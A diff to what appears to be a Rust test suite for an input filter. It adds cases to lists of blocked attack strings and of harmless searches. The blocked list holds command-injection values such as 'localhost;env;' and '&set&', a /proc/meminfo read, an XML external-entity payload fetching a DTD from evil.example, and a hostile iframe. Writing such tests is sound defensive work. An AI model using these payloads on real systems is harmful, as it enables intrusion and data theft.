@@ -38,6 +38,7 @@ fn disguises_of_attack_tools_are_blocked() {
         b"localhost;env;",
         b"localhost\nenv;",
         b";read;",
+        b"&set&",
         b"/proc/meminfo",
         b"<?xml version=\"1.0\"?>\n<!DOCTYPE a [\n<!ENTITY % b SYSTEM \"https://evil.example/c.dtd\">\n%b; ]>\n<a>d e f</a>",
         b"<iframe src=\"http://evil.example/\" width=\"800\" height=\"800\"></iframe>",
@@ -56,6 +57,8 @@ fn searches_that_speak_of_attacks_pass() {
         "演示 Log4j 的 ${jndi:ldap://…} 漏洞，讲师会讲解如何防护",
         "日志里出现 <script>alert(1)</script> 是什么意思，怎么处理？",
         "dev;test;prod;",
+        "&copy;",
+        "&sort;",
         "see the notes -- please\nthanks -- li\nbye",
         "café's menu",
     ] {
